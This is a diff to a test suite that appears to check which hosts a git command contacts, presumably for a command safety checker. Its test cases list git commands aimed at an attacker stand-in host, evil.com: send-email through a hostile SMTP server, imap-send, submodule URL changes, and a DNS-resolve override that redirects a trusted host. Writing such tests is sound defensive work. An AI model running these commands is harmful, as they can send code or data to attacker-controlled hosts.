@@ -57,7 +57,8 @@ describe('the hosts git connects to', () => {
     ['git submodule set-url -- sub https://evil.com/x', ['https://evil.com/x']],
     ['git -c imap.host=evil.com imap-send', ['imap://evil.com/']],
     ['git -c imap.host=imaps://evil.com imap-send', ['imaps://evil.com']],
-    ['git -c sendemail.smtpServer=evil.com send-email x.patch', ['smtp://evil.com/']],
+    // (And the recipients, which the patches and the configuration name: unknown, src/shell/message-hosts.ts.)
+    ['git -c sendemail.smtpServer=evil.com send-email x.patch', ['smtp://evil.com/', "?git send-email: the patches' and the configuration's recipients"]],
     ['git config sendemail.work.smtpServer evil.com', ['smtp://evil.com/']],
     ["git -c 'http.curloptResolve=good.com:443:6.6.6.6,[::1]' clone https://good.com/x", ['https://good.com/', 'https://6.6.6.6/', 'https://[::1]/', 'https://good.com/x']],
     // (Found in review: git's bridges to Subversion and CVS.)
